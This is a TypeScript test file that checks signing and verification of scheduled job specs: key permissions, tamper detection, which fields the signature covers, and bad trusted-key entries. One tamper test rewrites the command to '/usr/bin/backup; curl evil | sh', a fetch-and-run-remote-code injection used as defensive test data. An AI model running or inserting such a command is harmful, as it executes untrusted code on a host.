// Signed job specs: what a signature covers, and how a node judges one.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, statSync, writeFileSync, chmodSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  generateKeyFiles,
  loadTrustedKeys,
  readSigningKey,
  signJob,
  verifyJob,
  type StoredJob,
} from '../../agent/core/signing';
import { validateJob, type JobSpec } from '../../agent/core/job/spec';

const dir = mkdtempSync(join(tmpdir(), 'pc-keys-'));
const made = generateKeyFiles(join(dir, 'ops.key'));
const other = generateKeyFiles(join(dir, 'other.key'));
const key = readSigningKey(join(dir, 'ops.key'));
const trusted = loadTrustedKeys([made.pubPath]);

function job(extra: Record<string, unknown> = {}): JobSpec {
  const r = validateJob({ name: 'backup', schedule: '@daily', command: '/usr/bin/backup', ...extra });
  assert.ok(r.ok);
  return r.job;
}

test('keys generate writes a private key only its owner can read, and a one-line public key', () => {
  assert.equal(statSync(join(dir, 'ops.key')).mode & 0o777, 0o600);
  assert.equal(key.id, made.id);
  assert.match(made.id, /^[0-9a-f]{16}$/);
  assert.throws(() => generateKeyFiles(join(dir, 'ops.key')), /exists/);
  // The inline base64 form is the same key as the file.
  assert.equal(loadTrustedKeys([made.publicKey])[0].id, made.id);
});

test('a private key readable by others is refused, saying how to fix it', () => {
  const path = join(dir, 'loose.key');
  generateKeyFiles(path);
  chmodSync(path, 0o644);
  assert.throws(() => readSigningKey(path), /readable by other users.*chmod 600/);
});

test('a signed spec verifies; tampered, unsigned and foreign-signed ones do not, and say why', () => {
  const signed = signJob(job(), key);
  assert.deepEqual(verifyJob(signed, trusted), { ok: true, keyId: made.id });

  const tampered: StoredJob = { ...signed, command: '/usr/bin/backup; curl evil | sh' };
  const t = verifyJob(tampered, trusted);
  assert.equal(t.ok, false);
  assert.match(!t.ok ? t.reason : '', new RegExp(`key id ${made.id} does not match the spec`));

  const u = verifyJob(job(), trusted);
  assert.match(!u.ok ? u.reason : '', /not signed by a trusted key \(it is unsigned\)/);

  const foreign = signJob(job(), readSigningKey(join(dir, 'other.key')));
  const f = verifyJob(foreign, trusted);
  assert.match(!f.ok ? f.reason : '', new RegExp(`key id ${other.id} is not among this node's trustedKeys`));
});

test('the signature covers the incarnation (uid) and every spec field but paused', () => {
  const signed = signJob({ ...job(), uid: 'a1' }, key);
  assert.equal(verifyJob({ ...signed, paused: true }, trusted).ok, true, 'pausing keeps it valid');
  assert.equal(verifyJob({ ...signed, uid: 'b2' }, trusted).ok, false, 'another incarnation');
  const noUid: StoredJob = { ...signed };
  delete noUid.uid;
  assert.equal(verifyJob(noUid, trusted).ok, false, 'uid removed');
  for (const change of [{ user: 'root' }, { env: { X: '1' } }, { timeout: '1h' }, { selector: { a: 'b' } }])
    assert.equal(verifyJob({ ...signed, ...change }, trusted).ok, false, JSON.stringify(change));
  // Defaults filled or not, key order: the same spec signs the same.
  const reordered = Object.fromEntries(Object.entries(signed).reverse()) as unknown as StoredJob;
  assert.equal(verifyJob(reordered, trusted).ok, true);
});

test('trustedKeys entries that are not keys stop the agent with the entry named', () => {
  const bad = join(dir, 'bad.pub');
  writeFileSync(bad, 'hello\n');
  assert.throws(() => loadTrustedKeys([bad]), /bad\.pub: not an Ed25519 public key/);
  assert.throws(() => loadTrustedKeys([join(dir, 'missing.pub')]), /cannot read .*missing\.pub/);
});
